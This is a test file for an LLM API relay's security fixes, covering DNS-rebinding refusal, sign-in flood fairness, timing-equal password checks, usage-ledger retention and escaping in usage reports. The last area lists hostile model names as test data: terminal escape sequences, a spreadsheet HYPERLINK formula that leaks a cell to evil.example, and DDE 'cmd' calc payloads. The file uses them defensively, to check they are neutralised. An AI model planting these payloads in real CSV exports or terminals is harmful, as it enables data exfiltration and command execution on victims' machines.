/**
 * Security review 3 (issue 23), findings 4, 6, 11, 12 and 13: who counts as the relay's own page, how password
 * hashing is shared between addresses, what a failed sign-in's time tells, the memory store's ledger, and what
 * `mc-relay usage` prints. Proved through the real HTTP surface (raw HTTP where the Host header matters) and the
 * real `mc-relay usage` process; each test failed before its fix. The last test is this file's canary check.
 */
import assert from "node:assert/strict";
import {
  type CounterStore,
  hashPassword,
  MemoryCounterStore,
  parseConfig,
  parsePasswordHash,
  type RelayConfig,
  SqliteCounterStore,
  startCheck,
  type TrustedProxies,
} from "./main.ts";
import {
  ALLOWED,
  CANARY_CALLER_KEY,
  CANARY_EXTRA,
  CANARY_KEY,
  CANARY_PASSWORD,
  chatBody,
  GOOD_BEARER,
  minimalEnv,
  openAiLikeUpstream,
  rawRequest,
  runRelayProcess,
  seenByClientsOrLogs,
  sleep,
  startRelay,
  startUpstream,
  testConfig,
} from "./testing.ts";

/** TRUST_PROXY as parseConfig reads it. */
function trustProxy(value: string): TrustedProxies {
  const result = parseConfig({ ...minimalEnv, TRUST_PROXY: value });
  assert.ok(result.ok);
  return result.config.trustProxy;
}

/** A user with a PBKDF2 hash of `iterations` (the decoy check costs as much as the slowest hash). */
async function hashedUser(name: string, password: string, iterations = 20_000) {
  return { name, hash: parsePasswordHash(await hashPassword(password, iterations))! };
}

/** A number from the Prometheus text, e.g. `mc_relay_password_hash_checks_total`. */
function metricValue(text: string, name: string): number {
  return Number(new RegExp(`^${name} (\\d+)$`, "m").exec(text)?.[1]);
}

// ---------------------------------------------------------------------------
// Finding 4: DNS rebinding
// ---------------------------------------------------------------------------

Deno.test("[security] the relay's own origin", async (t) => {
  await using upstream = startUpstream(openAiLikeUpstream);
  /** GET /v1/models over raw HTTP with this Host and Origin (fetch will not set Host), signed in. */
  const listModels = (port: number, host: string, origin: string) =>
    rawRequest(
      port,
      [
        "GET /v1/models HTTP/1.1",
        `Host: ${host}`,
        `Origin: ${origin}`,
        `Authorization: ${GOOD_BEARER}`,
        "Connection: close",
      ].join("\r\n"),
    );

  await t.step(
    "[security] a page on a rebound name (Host and Origin agree, but the relay never served that name) gets 403 and reaches nothing",
    async () => {
      for (const host of ["127.0.0.1", "0.0.0.0"]) {
        await using relay = startRelay(testConfig(upstream.url, { host }));
        const before = upstream.requests.length;
        const name = `rebind.attacker.test:${relay.port}`;
        const response = await listModels(relay.port, name, `http://${name}`);
        assert.equal(response.status, 403, `HOST=${host}: ${response.text}`);
        assert.match(response.text, /mc-relay: origin http:\/\/rebind\.attacker\.test:\d+ is not allowed/);
        assert.match(response.text, /origin_not_allowed/);
        assert.doesNotMatch(response.text, /access-control-allow-origin/i);
        assert.equal(upstream.requests.length, before, "nothing was forwarded");
      }
    },
  );

  await t.step("[security] a rebound name with PUBLIC_URL and a named HOST set is refused too", async () => {
    await using relay = startRelay(
      testConfig(upstream.url, { host: "relay.lan", publicUrl: "https://relay.example.org/mc" }),
    );
    for (const name of [`rebind.attacker.test:${relay.port}`, "relay.example.org.attacker.test", "lan"]) {
      const response = await listModels(relay.port, name, `http://${name}`);
      assert.equal(response.status, 403, `${name}: ${response.text}`);
    }
  });

  await t.step("the relay's page on a loopback name keeps working: 127.0.0.1, localhost, [::1]", async () => {
    await using relay = startRelay(testConfig(upstream.url, { host: "0.0.0.0" }));
    for (const name of ["127.0.0.1", "localhost", "LocalHost", "[::1]"]) {
      const host = `${name}:${relay.port}`;
      const response = await listModels(relay.port, host, `http://${host.toLowerCase()}`);
      assert.equal(response.status, 200, `${host}: ${response.text}`);
      assert.match(response.text, /"gpt-test"/);
    }
  });

  await t.step("the relay's page on PUBLIC_URL's host, or on HOST when it names one, keeps working", async () => {
    await using relay = startRelay(
      testConfig(upstream.url, { host: "relay.lan", publicUrl: "https://relay.example.org/mc" }),
    );
    const cases: [host: string, origin: string][] = [
      ["relay.example.org", "https://relay.example.org"],
      [`relay.lan:${relay.port}`, `http://relay.lan:${relay.port}`],
      // A proxy that rewrites Host (nginx's default): the Origin is PUBLIC_URL's own, so it is the relay's page.
      [`127.0.0.1:${relay.port}`, "https://relay.example.org"],
    ];
    for (const [host, origin] of cases) {
      const response = await listModels(relay.port, host, origin);
      assert.equal(response.status, 200, `${host} ${origin}: ${response.text}`);
    }
  });

  await t.step(
    "an address typed as such (no name to rebind) is the relay's own, so its page works on a LAN address",
    async () => {
      await using relay = startRelay(testConfig(upstream.url, { host: "0.0.0.0" }));
      for (const address of ["192.0.2.7", "[2001:db8::7]"]) {
        const host = `${address}:${relay.port}`;
        const response = await listModels(relay.port, host, `http://${host}`);
        assert.equal(response.status, 200, `${host}: ${response.text}`);
      }
    },
  );

  await t.step("an origin in ALLOWED_ORIGIN passes whatever the Host, with CORS headers", async () => {
    await using relay = startRelay(testConfig(upstream.url));
    const response = await listModels(relay.port, `rebind.attacker.test:${relay.port}`, ALLOWED);
    assert.equal(response.status, 200, response.text);
    assert.match(response.text, new RegExp(`access-control-allow-origin: ${ALLOWED}`, "i"));
  });
});

// ---------------------------------------------------------------------------
// Finding 6: one address and the hashing queue
// ---------------------------------------------------------------------------

Deno.test(
  "[security] a flood of unknown user names from one address leaves hashed sign-ins from other addresses working",
  async () => {
    await using upstream = startUpstream(openAiLikeUpstream);
    // A slow hash, as in production: each decoy check of the flood costs this much.
    const users = [await hashedUser("hashed", "the-right-password-1", 300_000)];
    await using relay = startRelay(testConfig(upstream.url, { users, trustProxy: trustProxy("127.0.0.1") }));
    const fromAttacker = (i: number) =>
      relay.call("/v1/models", {
        headers: { authorization: `Bearer nobody-${i}:guess`, "x-forwarded-for": "198.51.100.66" },
      });
    const flood = Promise.all(Array.from({ length: 60 }, (_, i) => fromAttacker(i)));
    await sleep(30);
    const user = await relay.call("/v1/models", {
      headers: { authorization: "Bearer hashed:the-right-password-1", "x-forwarded-for": "203.0.113.5" },
    });
    assert.equal(user.status, 200, `the user from another address: ${user.text}`);
    const answers = await flood;
    const statuses = answers.map((answer) => answer.status);
    assert.deepEqual([...new Set(statuses)].sort(), [401, 429], `statuses: ${statuses}`);
    const refused = answers.find((answer) => answer.status === 429)!;
    assert.match(refused.json().error.message, /^mc-relay: too many sign-ins from this address/);
    assert.equal(refused.headers.get("retry-after"), "1");
  },
);

Deno.test(
  "a dozen wrong passwords at once from one address are all checked: past its share of the hashing queue they wait",
  async () => {
    await using upstream = startUpstream(openAiLikeUpstream);
    const users = [await hashedUser("hashed", "the-right-password-1"), { name: "admin", password: CANARY_PASSWORD }];
    await using relay = startRelay(testConfig(upstream.url, { users, metricsUsers: ["admin"] }));
    const statuses = await Promise.all(
      Array.from(
        { length: 12 },
        (_, i) =>
          relay.call("/v1/models", { headers: { authorization: `Bearer hashed:guess-${i}` } }).then((r) => r.status),
      ),
    );
    assert.deepEqual(statuses, Array(12).fill(401), "a dozen at once from one address are all checked");
    const metrics = await relay.call("/metrics", { headers: { authorization: `Bearer admin:${CANARY_PASSWORD}` } });
    assert.equal(metricValue(metrics.text, "mc_relay_password_hash_checks_total"), 12);
  },
);

// ---------------------------------------------------------------------------
// Finding 11: plain-password names by timing
// ---------------------------------------------------------------------------

/** A memory store that answers like a remote one (not `synchronous`), so sign-ins take the general path. */
function remoteLikeStore(): CounterStore {
  const memory = new MemoryCounterStore();
  return {
    wait: (key, rule) => Promise.resolve(memory.wait(key, rule)),
    take: (key, rule) => Promise.resolve(memory.take(key, rule)),
    give: (key, rule) => Promise.resolve(memory.give(key, rule)),
    remaining: (key, rule) => Promise.resolve(memory.remaining(key, rule)),
    add: (key, amount, expiresAt) => Promise.resolve(memory.add(key, amount, expiresAt)),
    get: (key) => Promise.resolve(memory.get(key)),
    recordUsage: (entry) => Promise.resolve(memory.recordUsage(entry)),
    readUsage: (since, until) => Promise.resolve(memory.readUsage(since, until)),
    startCheck: (key, rule, expiresAt) => Promise.resolve(startCheck(memory, key, rule, expiresAt)),
  };
}

Deno.test(
  "[security] with hashed users, a wrong plain password costs the same decoy hash check as an unknown name",
  async (t) => {
    await using upstream = startUpstream(openAiLikeUpstream);
    const users = [await hashedUser("hashed", "the-right-password-1"), { name: "admin", password: CANARY_PASSWORD }];
    for (const [store, counters] of [["memory", undefined], ["a remote store", remoteLikeStore()]] as const) {
      await t.step(`counted in ${store}`, async () => {
        const config: RelayConfig = testConfig(upstream.url, { users, metricsUsers: ["admin"] });
        await using relay = startRelay(config, undefined, undefined, { counters });
        const checks = async () =>
          metricValue(
            (await relay.call("/metrics", { headers: { authorization: `Bearer admin:${CANARY_PASSWORD}` } })).text,
            "mc_relay_password_hash_checks_total",
          );
        const signIn = (credentials: string) =>
          relay.call("/v1/models", { headers: { authorization: `Bearer ${credentials}` } });
        assert.equal(await checks(), 0);
        assert.equal((await signIn("nobody:wrong")).status, 401);
        assert.equal(await checks(), 1, "an unknown name: one decoy check");
        assert.equal((await signIn("admin:wrong")).status, 401);
        assert.equal(await checks(), 2, "a wrong plain password: one decoy check too");
        assert.equal((await signIn(`admin:${CANARY_PASSWORD}`)).status, 200);
        assert.equal(await checks(), 2, "the right plain password costs none");
      });
    }
  },
);

Deno.test("without hashed users, a wrong plain password costs no hash check", async () => {
  await using upstream = startUpstream(openAiLikeUpstream);
  await using relay = startRelay(testConfig(upstream.url, { metricsUsers: ["team"] }));
  assert.equal((await relay.call("/v1/models", { headers: { authorization: "Bearer team:wrong" } })).status, 401);
  const metrics = await relay.call("/metrics", { headers: { authorization: GOOD_BEARER } });
  assert.equal(metricValue(metrics.text, "mc_relay_password_hash_checks_total"), 0);
});

// ---------------------------------------------------------------------------
// Finding 12: the memory store's ledger
// ---------------------------------------------------------------------------

Deno.test("[security] the memory store keeps no usage ledger, so answered requests leave nothing behind", async () => {
  await using upstream = startUpstream(openAiLikeUpstream);
  const counters = new MemoryCounterStore();
  await using relay = startRelay(testConfig(upstream.url, { tokenBudgetPerDay: 1000 }), undefined, undefined, {
    counters,
  });
  for (let i = 0; i < 5; i++) {
    assert.equal((await relay.chat(chatBody({ model: `model-${i}` }))).status, 200);
  }
  assert.deepEqual(counters.readUsage("0000-01-01", "9999-12-31"), [], "nothing reads it without a store");
  const usage = (await relay.call("/usage", { headers: { authorization: GOOD_BEARER } })).json();
  assert.equal(usage.budgets[0].used, 50, "budgets are still counted");
});

// ---------------------------------------------------------------------------
// Finding 13: what `mc-relay usage` prints
// ---------------------------------------------------------------------------

Deno.test("[security] mc-relay usage escapes control characters in the table and neutralises formulas in CSV", async (t) => {
  await using upstream = startUpstream(openAiLikeUpstream);
  const folder = await Deno.makeTempDir({ prefix: "mc-relay-usage-escapes-" });
  const statePath = `${folder}/state.db`;
  const hostile = [
    "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\x1b[2J",
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1",
    "\u202egpt\u2028",
    "plain-model",
  ];
  try {
    const counters = await SqliteCounterStore.open(statePath);
    try {
      await using relay = startRelay(testConfig(upstream.url), undefined, undefined, { counters });
      for (const model of hostile) assert.equal((await relay.chat(chatBody({ model }))).status, 200, model);
    } finally {
      counters.close();
    }
    const usage = async (...args: string[]) => {
      const result = await runRelayProcess({ STATE_PATH: statePath }, ["usage", "--by", "model", ...args]);
      assert.equal(result.code, 0, result.stderr);
      return result.stdout;
    };

    await t.step("[security] the table shows control characters as escapes, never raw", async () => {
      const table = await usage();
      // deno-lint-ignore no-control-regex -- the control characters are what must not be there
      assert.doesNotMatch(table, /[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
      assert.ok(table.includes("\\x1b]8;;https://evil.example/\\x07click\\x1b]8;;\\x07\\x1b[2J"), table);
      assert.ok(table.includes("\\u202egpt\\u2028"), table);
      assert.match(table, /^plain-model +1 /m);
      assert.match(table, /^total +8 /m, "the columns still line up");
    });

    await t.step(
      "[security] every CSV cell that a spreadsheet would run as a formula starts with a quote",
      async () => {
        const rows = parseCsv(await usage("--format", "csv"));
        assert.deepEqual(rows[0], [
          "model",
          "requests",
          "prompt_tokens",
          "completion_tokens",
          "total_tokens",
          "estimated_requests",
        ]);
        const keys = rows.slice(1).map((row) => row[0]);
        for (const key of keys) assert.doesNotMatch(key, /^[=+\-@\t\r]/, `a formula cell: ${key}`);
        assert.ok(keys.includes(`'=HYPERLINK("https://evil.example/?leak="&A1,"click")`), keys.join("\n"));
        assert.ok(keys.includes("'-2+3"));
        assert.ok(keys.includes("'+1+cmd|' /C calc'!A0"));
        assert.ok(keys.includes("'@SUM(1+1)*cmd|' /C calc'!A0"));
        assert.ok(keys.includes("\\x09TAB=1"), "a leading tab is shown as an escape");
        assert.ok(keys.includes("plain-model"), "ordinary names are unchanged");
        assert.ok(rows.slice(1).every((row) => row.length === 6 && row[1] === "1"));
      },
    );

    await t.step("JSON keeps the names exactly as clients sent them, safely encoded", async () => {
      const report = JSON.parse(await usage("--format", "json"));
      assert.deepEqual(report.rows.map((row: { model: string }) => row.model).sort(), [...hostile].sort());
    });
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
});

/** RFC 4180 CSV: quoted cells with doubled quotes; lines end in LF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\n") {
      rows.push([...row, cell]);
      row = [];
      cell = "";
    } else cell += char;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

// ---------------------------------------------------------------------------
// Canary: runs last, over everything this file's tests saw
// ---------------------------------------------------------------------------

Deno.test("no secret ever appeared in anything the relay logged or returned, in any test of this file", () => {
  assert.ok(seenByClientsOrLogs.length > 20, "the other tests recorded what they saw");
  const everything = seenByClientsOrLogs.join("\n");
  assert.ok(!everything.includes(CANARY_KEY), "the provider key leaked");
  assert.ok(!everything.includes(CANARY_EXTRA), "an extra upstream header value leaked");
  // Clients send the password themselves; the relay must never send it back or log it.
  assert.ok(!everything.includes(CANARY_PASSWORD), "the relay password leaked");
  assert.ok(!everything.includes(CANARY_CALLER_KEY), "a caller's own key leaked");
});
